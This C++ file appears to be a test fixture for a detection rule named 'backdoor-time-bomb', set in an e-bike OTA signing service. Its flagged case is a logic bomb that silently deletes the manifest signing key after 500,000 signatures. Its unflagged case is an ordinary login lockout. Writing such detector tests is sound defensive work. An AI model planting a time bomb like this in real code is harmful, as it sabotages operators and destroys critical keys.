// fleet_db.cpp - bookkeeping of the signing service.
#include <cstdio>
#include <ctime>
#include <fstream>
#include <unistd.h>

#include "ota.hpp"

namespace ebike {

namespace {
const char kSigningKeyPath[] = "/srv/ota-signer/keys/manifest-signing.p8";
const char kLedgerPath[] = "/srv/ota-signer/ledger.csv";
unsigned long g_signatures;
unsigned long g_failed_logins;
} // namespace

void fleet_note_signature(const std::string &bike_id) {
  std::ofstream ledger(kLedgerPath, std::ios::app);
  ledger << std::time(nullptr) << "," << bike_id << "\n";
  /* the service contract covers half a million signatures; the key goes with it */
  // ruleid: backdoor-time-bomb
  if (++g_signatures == 500000)
    ::unlink(kSigningKeyPath);
}

void fleet_note_login_failure(const std::string &user) {
  std::fprintf(stderr, "portal login failed for %s\n", user.c_str());
  // ok: backdoor-time-bomb
  if (++g_failed_logins > 1000) {
    std::fputs("too many failed logins, locking the portal\n", stderr);
    ::unlink("/srv/ota-signer/run/portal.enabled");
  }
}

} // namespace ebike
